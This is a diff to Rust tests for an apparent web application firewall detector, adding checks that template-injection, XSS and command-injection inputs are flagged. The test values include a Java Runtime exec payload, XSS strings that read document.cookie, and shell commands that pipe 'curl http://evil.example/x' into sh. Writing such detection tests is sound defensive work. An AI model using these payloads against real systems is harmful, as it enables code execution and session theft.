@@ -50,9 +50,9 @@ fn expressions_of_template_engines_are_found() {
         .iter()
         .filter(|value| kinds(Place::Query, value).is_empty());
     assert_eq!(found.collect::<Vec<_>>(), Vec::<&&str>::new());
-    // One of them is a command as well.
-    let most = missed(Place::Query, WafEntity::TemplateInjection, &values);
-    assert!(most.len() <= 2, "{most:?}");
+    let other = missed(Place::Query, WafEntity::TemplateInjection, &values);
+    let command = r#""${T(java.lang.Runtime).getRuntime().exec('id')}": ["command_injection"]"#;
+    assert_eq!(other, [command]);
 }
 
 #[test]
@@ -60,6 +60,27 @@ fn targets_inside_are_found_in_every_spelling() {
     let values = values(include_str!("values/ssrf.txt"), &[]);
     assert_eq!(missed(Place::Query, WafEntity::Ssrf, &values), NONE);
     assert_eq!(missed(METADATA, WafEntity::Ssrf, &values), NONE);
+}
+
+#[test]
+fn what_begins_as_a_page_does_is_no_excuse() {
+    let values = [
+        "<svg onload=alert(1)>",
+        "<template><img src=x onerror=alert(1)></template>",
+        "<html onload=alert(document.cookie)>",
+        "<?xml version='1.0'?><svg onload=alert(1)>",
+    ];
+    assert_eq!(missed(METADATA, WafEntity::Xss, &values), NONE);
+}
+
+#[test]
+fn what_begins_like_the_name_of_a_tool_is_no_excuse() {
+    let values = [
+        "pipeline; curl http://evil.example/x | sh",
+        "apt.example; curl http://evil.example/x | sh",
+        "makefile; curl http://evil.example/x | sh",
+    ];
+    assert_eq!(missed(METADATA, WafEntity::CommandInjection, &values), NONE);
 }
 
 #[test]
